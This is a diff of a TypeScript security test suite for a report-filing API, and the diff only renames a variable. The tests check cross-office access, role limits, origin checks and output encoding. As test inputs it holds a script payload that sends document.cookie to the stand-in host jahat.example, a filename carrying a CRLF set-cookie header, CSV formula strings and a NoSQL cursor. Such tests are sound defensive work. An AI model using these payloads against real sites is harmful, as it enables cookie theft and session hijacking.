@@ -9,28 +9,28 @@ vi.setConfig({ testTimeout: 60_000, hookTimeout: 90_000 })
 
 const password = 'kuda laut bernyanyi'
 let api: TestApi
-let desk: Filing
+let team: Filing
 let admin: SignedIn
 let report: string
 let note: string
 let attachment: string
 beforeAll(async () => {
   api = await testApi()
-  desk = await filing(api)
+  team = await filing(api)
   admin = await api.as({ role: 'admin' })
-  report = await desk.begin()
-  await desk.set(report, { '/recipients/gepeng/due': '10', '/recipients/gepeng/served': '3' })
+  report = await team.begin()
+  await team.set(report, { '/recipients/gepeng/due': '10', '/recipients/gepeng/served': '3' })
   attachment = v7()
-  await upload(desk.operator, report, { fields: { id: attachment } })
-  await desk.through(report, ['operator', 'submit'], ['verifier', 'claim'])
-  note = await desk.note(report)
-  await desk.through(report, ['verifier', 'return', { dueAt: soon() }])
+  await upload(team.operator, report, { fields: { id: attachment } })
+  await team.through(report, ['operator', 'submit'], ['verifier', 'claim'])
+  note = await team.note(report)
+  await team.through(report, ['verifier', 'return', { dueAt: soon() }])
 })
 afterAll(() => api.close())
 
 /** As somebody of another office, who knows the id. */
 const isHidden = async (method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE', path: string, body?: object) => {
-  const answer = await desk.other.call(method, path, body)
+  const answer = await team.other.call(method, path, body)
   expect([answer.statusCode, answer.json().code]).toEqual([404, 'not-found'])
 }
 
@@ -44,7 +44,7 @@ describe('of another office, who knows an id learns and changes nothing', () => 
   it('its notes', () => isHidden('GET', `/submissions/${report}/notes`))
   it('its evidence', () => isHidden('GET', `/submissions/${report}/attachments/${attachment}/content`))
   it('its live updates', () => isHidden('GET', `/submissions/${report}/bell`))
-  it('all it ever filed', () => isHidden('GET', `/offices/${desk.office}/export`))
+  it('all it ever filed', () => isHidden('GET', `/offices/${team.office}/export`))
   it('an answer to its note', () =>
     isHidden('POST', `/submissions/${report}/notes/${note}/answers`, { text: 'Sudah.' }))
   it('removing its evidence', () => isHidden('DELETE', `/submissions/${report}/attachments/${attachment}`))
@@ -54,26 +54,26 @@ describe('of another office, who knows an id learns and changes nothing', () => 
       changes: [{ changeId: v7(), op: 'set', pointer: '/recipients/gepeng/due', value: '1', base: 0 }],
     }))
   it('an upload for it', async () => {
-    const answer = await upload(desk.other, report)
+    const answer = await upload(team.other, report)
     expect(answer.statusCode).toBe(404)
   })
   it('beginning a report for it', async () => {
-    const body = { office: desk.office, form: 'spm/triwulan', period: '2027-TW3' }
-    expect((await desk.other.call('POST', '/submissions', body)).statusCode).toBeGreaterThanOrEqual(403)
+    const body = { office: team.office, form: 'spm/triwulan', period: '2027-TW3' }
+    expect((await team.other.call('POST', '/submissions', body)).statusCode).toBeGreaterThanOrEqual(403)
   })
   it('its evidence by way of a report of one’s own', async () => {
     const period = '2028-TW4'
-    const body = { office: desk.otherOffice, form: 'spm/triwulan', period }
-    const own = (await desk.other.call('POST', '/submissions', body)).json().id
+    const body = { office: team.otherOffice, form: 'spm/triwulan', period }
+    const own = (await team.other.call('POST', '/submissions', body)).json().id
     await isHidden('GET', `/submissions/${own}/attachments/${attachment}/content`)
   })
   it('its note by way of a report of one’s own', async () => {
-    const body = { office: desk.otherOffice, form: 'spm/triwulan', period: '2028-TW3' }
-    const own = (await desk.other.call('POST', '/submissions', body)).json().id
+    const body = { office: team.otherOffice, form: 'spm/triwulan', period: '2028-TW3' }
+    const own = (await team.other.call('POST', '/submissions', body)).json().id
     await isHidden('POST', `/submissions/${own}/notes/${note}/answers`, { text: 'Sudah.' })
   })
   it('a list that names its office', async () => {
-    const answer = await desk.other.call('GET', `/submissions?office=${desk.office}`)
+    const answer = await team.other.call('GET', `/submissions?office=${team.office}`)
     expect(JSON.stringify(answer.json().items ?? [])).not.toContain(report)
   })
 })
@@ -85,15 +85,15 @@ describe('a post does no more than its role', () => {
     path: string,
     body?: object,
   ) => expect((await who.call(method, path, body)).json().code).toBe('no-right')
-  it('an operator approves nothing', () => refused(desk.operator, 'POST', `/submissions/${report}/approve`, {}))
-  it('an operator sees no people', () => refused(desk.operator, 'GET', `/people/${admin.personId}`))
+  it('an operator approves nothing', () => refused(team.operator, 'POST', `/submissions/${report}/approve`, {}))
+  it('an operator sees no people', () => refused(team.operator, 'GET', `/people/${admin.personId}`))
   it('an operator makes no one an administrator', () =>
-    refused(desk.operator, 'POST', `/people/${desk.operator.personId}/posts`, {
+    refused(team.operator, 'POST', `/people/${team.operator.personId}/posts`, {
       role: 'admin',
       region: true,
       from: '2026-01-01',
     }))
-  it('an operator issues no code for another', () => refused(desk.operator, 'POST', `/people/${admin.personId}/codes`))
+  it('an operator issues no code for another', () => refused(team.operator, 'POST', `/people/${admin.personId}/codes`))
   it('an administrator reads no report', () => refused(admin, 'GET', `/submissions/${report}`))
   it('a key takes no code, key or post', async () => {
     const key = await api.withKey({ owner: admin.personId, scopes: ['submission.read'] })
@@ -101,7 +101,7 @@ describe('a post does no more than its role', () => {
     await refused(key, 'GET', '/keys')
   })
   it('no user acts at a post of another', async () => {
-    const answer = await desk.operator.call('PUT', '/session/post', { post: admin.postId })
+    const answer = await team.operator.call('PUT', '/session/post', { post: admin.postId })
     expect(answer.statusCode).toBe(404)
   })
 })
@@ -176,7 +176,7 @@ describe('a session', () => {
 
 describe('a page of another site, with the cookie', () => {
   const from = async (headers: Record<string, string>) => {
-    const answer = await desk.operator.call('POST', `/submissions/${report}/submit`, {}, headers)
+    const answer = await team.operator.call('POST', `/submissions/${report}/submit`, {}, headers)
     expect([answer.statusCode, answer.json().code]).toEqual([403, 'origin-refused'])
   }
   it('changes nothing', () => from({ origin: 'https://jahat.example' }))
@@ -185,11 +185,11 @@ describe('a page of another site, with the cookie', () => {
   it('changes nothing from a frame without an origin', () => from({ origin: 'null' }))
   it('changes nothing by a form of plain text', async () => {
     const headers = { origin: 'https://jahat.example', 'content-type': 'text/plain' }
-    const answer = await desk.operator.call('POST', '/session', Buffer.from('{"name":"a","password":"b"}'), headers)
+    const answer = await team.operator.call('POST', '/session', Buffer.from('{"name":"a","password":"b"}'), headers)
     expect(answer.statusCode).toBe(403)
   })
   it('is allowed to read no answer', async () => {
-    const answer = await desk.operator.call('GET', '/submissions', undefined, { origin: 'https://jahat.example' })
+    const answer = await team.operator.call('GET', '/submissions', undefined, { origin: 'https://jahat.example' })
     expect(answer.headers['access-control-allow-origin']).toBeUndefined()
     expect(answer.headers['cross-origin-resource-policy']).toBe('same-origin')
   })
@@ -207,8 +207,8 @@ describe('what somebody wrote', () => {
   const script = '<script>fetch("https://jahat.example/"+document.cookie)</script>'
 
   it('runs in no browser that is led to the answer', async () => {
-    await desk.operator.call('POST', `/submissions/${report}/notes/${note}/answers`, { text: script })
-    const answer = await desk.operator.call('GET', `/submissions/${report}/notes`, undefined, { accept: 'text/html' })
+    await team.operator.call('POST', `/submissions/${report}/notes/${note}/answers`, { text: script })
+    const answer = await team.operator.call('GET', `/submissions/${report}/notes`, undefined, { accept: 'text/html' })
     expect(answer.headers['content-type']).toBe('application/json; charset=utf-8')
     expect(answer.headers['x-content-type-options']).toBe('nosniff')
     expect(answer.headers['content-security-policy']).toContain("default-src 'none'")
@@ -217,9 +217,9 @@ describe('what somebody wrote', () => {
   it('names no file that a browser opens by itself, and breaks no header', async () => {
     const id = v7()
     const name = 'bukti".html\r\nset-cookie: a=1;.pdf'
-    const done = await upload(desk.operator, report, { fields: { id }, file: { name, content: pdf() } })
+    const done = await upload(team.operator, report, { fields: { id }, file: { name, content: pdf() } })
     expect(done.statusCode).toBeLessThan(500)
-    const answer = await desk.operator.call('GET', `/submissions/${report}/attachments/${id}/content`)
+    const answer = await team.operator.call('GET', `/submissions/${report}/attachments/${id}/content`)
     expect(answer.headers['set-cookie']).toBeUndefined()
     if (answer.statusCode === 200) expect(answer.headers['content-disposition']).toMatch(/^attachment; /)
   })
@@ -227,8 +227,8 @@ describe('what somebody wrote', () => {
   it('is no formula in a CSV, behind whatever blank', async () => {
     const texts = ['=1+1', '\t=1+1', '\u00a0=1+1', ' @SUM(A1)', '\u200b+1', '\u3000-2+3', '\ufeff=1', '＝1']
     for (const text of texts)
-      await desk.operator.call('POST', `/submissions/${report}/notes/${note}/answers`, { text: `${text} x` })
-    const csv = (await desk.operator.call('GET', `/offices/${desk.office}/export?format=csv`)).body
+      await team.operator.call('POST', `/submissions/${report}/notes/${note}/answers`, { text: `${text} x` })
+    const csv = (await team.operator.call('GET', `/offices/${team.office}/export?format=csv`)).body
     const cells = [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) => cell!)
     expect(cells.filter(cell => /^[\s\p{Z}\p{C}]*[=+@＝]/u.test(cell))).toEqual([])
     expect(cells.filter(cell => cell.startsWith("'")).length).toBeGreaterThanOrEqual(4)
@@ -248,10 +248,10 @@ describe('a place in a list', () => {
     asked(Buffer.from(JSON.stringify([{ $gt: '' }, v7()])).toString('base64url')))
 
   it('of another person shows only what one may see', async () => {
-    const theirs = (await desk.operator.call('GET', '/submissions?limit=1')).json()
+    const theirs = (await team.operator.call('GET', '/submissions?limit=1')).json()
     const cursor = theirs.next ?? writeCursor('2099-01-01', v7())
-    const answer = await desk.other.call('GET', `/submissions?cursor=${encodeURIComponent(cursor)}`)
-    expect(answer.body).not.toContain(desk.office)
+    const answer = await team.other.call('GET', `/submissions?cursor=${encodeURIComponent(cursor)}`)
+    expect(answer.body).not.toContain(team.office)
   })
 
   it('is found by no word that is a pattern of the database', async () => {
